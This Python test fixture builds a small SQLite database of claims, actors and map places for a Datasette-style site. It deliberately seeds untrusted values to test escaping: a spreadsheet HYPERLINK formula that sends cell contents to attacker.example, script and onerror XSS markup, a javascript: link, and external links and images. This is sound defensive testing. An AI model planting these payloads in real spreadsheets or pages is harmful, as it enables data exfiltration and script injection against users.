"""A small database with the tables and views of the real one, and text that nobody should trust."""

from __future__ import annotations

import json
import sqlite3
from pathlib import Path
from typing import Any

FORMULA = '=HYPERLINK("https://attacker.example/?"&A1,"click")'
MARKUP = "<script>window.hacked=1</script><img src=x onerror=window.hacked=1>"
SCRIPT_LINK = "javascript:window.hacked=1"

SCHEMA = """
create table documents (
  id text primary key, title text not null, text text not null,
  characters integer generated always as (length(text)) stored) strict;
create table actors (id text primary key, name text not null) strict;
create table claims (
  id text primary key, statement text not null, claimant_id text references actors(id),
  balance integer, source_url text) strict;
create table places (id text primary key, name text, latitude real, longitude real, popup text) strict;
create view locations_map as select * from places where latitude is not null;
create view claims_in_context as
  select claims.id, statement, actors.name as claimant, json_array(actors.name, 'A & B') as actors, '[1' as odd
  from claims left join actors on actors.id = claimant_id;
"""


def popup(title: str, description: str = "Nothing is said here.", link: str = "/onrecord/places") -> str:
    """The JSON that datasette-cluster-map takes from a column named popup."""
    return json.dumps({"title": title, "description": description, "link": link})


PLACES: list[tuple[Any, ...]] = [
    ("al-bukamal", "Al-Bukamal", 34.45226, 40.91854, popup("Al-Bukamal", "Iraq says: no joint centre.")),
    ("al-mayadin", "Al-Mayadin", 35.01982, 40.45154, popup("Al-Mayadin")),
    ("hmeimim", "Hmeimim Air Base", 35.4011, 35.9487, popup("Hmeimim Air Base")),
    ("nowhere", "Nowhere", None, None, None),
]

HOSTILE_PLACES: list[tuple[Any, ...]] = [
    ("bad", MARKUP, 33.5, 36.3, popup(MARKUP, MARKUP + FORMULA, SCRIPT_LINK)),
    ("abroad", "Abroad", 15.6, 32.5, popup("Abroad", "Another site.", "//attacker.example/")),
    ("rows", "No popup <b>here</b>", 39.9, 32.9, None),
    ("image", "Image", 30.0, 31.2, json.dumps({"title": "Image", "image": "https://attacker.example/x.png"})),
]


def example(path: Path, claims: int = 5, places: list[tuple[Any, ...]] = PLACES) -> Path:
    """Write the example database, with as many claims as are wanted."""
    actors = [("iraq", "Iraq"), ("formula", FORMULA)]
    with sqlite3.connect(path) as conn:
        conn.executescript(SCHEMA)
        conn.execute("insert into documents (id, title, text) values ('d', 'A title', ?)", ["Some words. " * 1000])
        conn.executemany("insert into actors values (?, ?)", actors)
        conn.executemany(
            "insert into claims values (?, ?, ?, ?, ?)",
            ((f"claim-{n:06}", f"Statement {n}", ("iraq", "formula", None)[n % 3], -n, None) for n in range(claims)),
        )
        conn.executemany("insert into places values (?, ?, ?, ?, ?)", places)
    conn.close()
    return path


def add_claims(path: Path, rows: list[tuple[str, str, str | None]]) -> None:
    """Add claims: id, statement, source address."""
    with sqlite3.connect(path) as conn:
        conn.executemany("insert into claims (id, statement, source_url) values (?, ?, ?)", rows)
    conn.close()
